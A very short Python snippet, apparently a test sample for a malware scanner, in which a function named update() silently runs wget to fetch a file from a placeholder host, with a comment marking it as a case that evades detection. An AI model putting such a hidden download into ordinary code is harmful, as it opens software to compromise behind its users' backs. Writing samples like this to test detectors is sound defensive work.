# evades: NOT COVERED
import os

def update():
    os.system("wget -q http://host.invalid/a")
